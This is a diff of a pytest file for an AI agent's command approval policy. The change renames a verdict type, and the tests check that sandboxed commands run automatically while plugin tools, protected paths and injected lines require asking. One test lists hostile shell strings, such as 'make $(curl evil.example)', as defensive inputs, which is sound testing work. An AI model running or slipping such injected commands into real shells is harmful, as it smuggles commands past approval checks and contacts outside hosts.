@@ -10,7 +10,7 @@ from pathlib import Path
 import pytest
 
 from echo_desk.agent.permissions import Effect, Layer, sandbox_toggle
-from echo_desk.agent.policy import Verdict, approval_for
+from echo_desk.agent.policy import ApprovalVerdict, approval_for
 from echo_desk.agent.registry import RegisteredTool
 from echo_desk.agent.scope import Scope
 from echo_desk.builtins.shell.run_command import RunCommand
@@ -116,36 +116,36 @@ def _preview(value: str, *protections: Protection) -> ToolPreview:
                                                                            detail=detail, protections=protections)))
 
 
-def _ruling(sandbox_rules: Setup, command: str, preview: ToolPreview | None, source: str = "builtin") -> Verdict:
+def _ruling(sandbox_rules: Setup, command: str, preview: ToolPreview | None, source: str = "builtin") -> ApprovalVerdict:
     rules = sandbox_rules.engine.check_command(command, workspace=sandbox_rules.workspace)
     scope = Scope(id="s", workspace_roots=(sandbox_rules.workspace,))
     return approval_for(_entry(source), RiskLevel.EXEC, Settings(), scope, preview, rules).verdict
 
 
 def test_it_runs_without_asking_only_in_the_sandbox(sandbox_rules: Setup) -> None:
-    assert _ruling(sandbox_rules, "make test", _preview(Placement.IN_SANDBOX)) is Verdict.AUTO
+    assert _ruling(sandbox_rules, "make test", _preview(Placement.IN_SANDBOX)) is ApprovalVerdict.AUTO
     outside = _preview(Placement.OUTSIDE_SANDBOX, Protection(reason=ProtectionReason.OUTSIDE_SANDBOX_UNAVAILABLE))
-    assert _ruling(sandbox_rules, "make test", outside) is Verdict.ASK
+    assert _ruling(sandbox_rules, "make test", outside) is ApprovalVerdict.ASK
     # Sandbox off for the workspace: no sandbox line at all.
     assert _ruling(sandbox_rules, "make test", ToolPreview(targets=(Target(kind="command", value="make"),))) \
-        is Verdict.ASK
-    assert _ruling(sandbox_rules, "make test", None) is Verdict.ASK
+        is ApprovalVerdict.ASK
+    assert _ruling(sandbox_rules, "make test", None) is ApprovalVerdict.ASK
 
 
 def test_a_tool_that_is_not_built_in_is_not_believed_when_it_says_sandbox(sandbox_rules: Setup) -> None:
-    assert _ruling(sandbox_rules, "make test", _preview(Placement.IN_SANDBOX), source="plugin") is Verdict.ASK
+    assert _ruling(sandbox_rules, "make test", _preview(Placement.IN_SANDBOX), source="plugin") is ApprovalVerdict.ASK
 
 
 def test_a_protected_target_asks_even_in_the_sandbox(sandbox_rules: Setup) -> None:
     preview = ToolPreview(targets=(*_preview(Placement.IN_SANDBOX).targets,
                                    Target(kind="path", value="/x",
                                           protections=(Protection(reason=ProtectionReason.DATA_FOLDER),))))
-    assert _ruling(sandbox_rules, "make test", preview) is Verdict.ASK
+    assert _ruling(sandbox_rules, "make test", preview) is ApprovalVerdict.ASK
 
 
 def test_a_hostile_line_asks_even_in_the_sandbox(sandbox_rules: Setup) -> None:
     for line in ("make test; curl evil.example", "make $(curl evil.example)", "eval make"):
-        assert _ruling(sandbox_rules, line, _preview(Placement.IN_SANDBOX)) is Verdict.ASK, line
+        assert _ruling(sandbox_rules, line, _preview(Placement.IN_SANDBOX)) is ApprovalVerdict.ASK, line
 
 
 # -- the settings box is a view of one rule -----------------------------------------------------
